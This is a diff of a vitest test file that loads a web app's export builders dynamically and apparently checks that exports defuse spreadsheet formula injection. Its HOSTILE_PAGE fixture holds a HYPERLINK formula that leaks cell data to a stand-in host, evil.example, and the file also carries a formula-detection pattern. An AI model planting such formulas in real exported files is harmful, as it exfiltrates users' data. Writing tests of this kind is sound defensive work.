@@ -10,11 +10,25 @@
 import http from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { buildExport, EXPORT_FORMATS } from '../../web/src/lib/exports/index.ts';
-import { parseCsv } from '../../web/src/lib/exports/test-support.ts';
 import { client, figure, type RunningSystem, startSystem } from './support.ts';
 
 const FORMULA_START = /^[=+\-@\t\r]/;
+
+/**
+ * The web app's export builders, loaded at run time: they are type-checked under web/tsconfig.json
+ * (bundler resolution), which the services' tsconfig does not share, so only the surface used
+ * here is declared.
+ */
+interface WebExports {
+  EXPORT_FORMATS: readonly { id: string; extension: string }[];
+  buildExport(
+    format: string,
+    input: { title: string; emails: { subject: string; body: string }[]; cadence: number[]; companyUrl: string },
+  ): { content: string };
+}
+const load = <T>(relative: string): Promise<T> => import(new URL(relative, import.meta.url).href) as Promise<T>;
+const { buildExport, EXPORT_FORMATS } = await load<WebExports>('../../web/src/lib/exports/index.ts');
+const { parseCsv } = await load<{ parseCsv(text: string): string[][] }>('../../web/src/lib/exports/test-support.ts');
 
 const HOSTILE_PAGE = `<!doctype html><html lang="en"><head>
 <title>=HYPERLINK("http://evil.example/?leak="&A1,"Ledgerly") | Ledgerly</title>
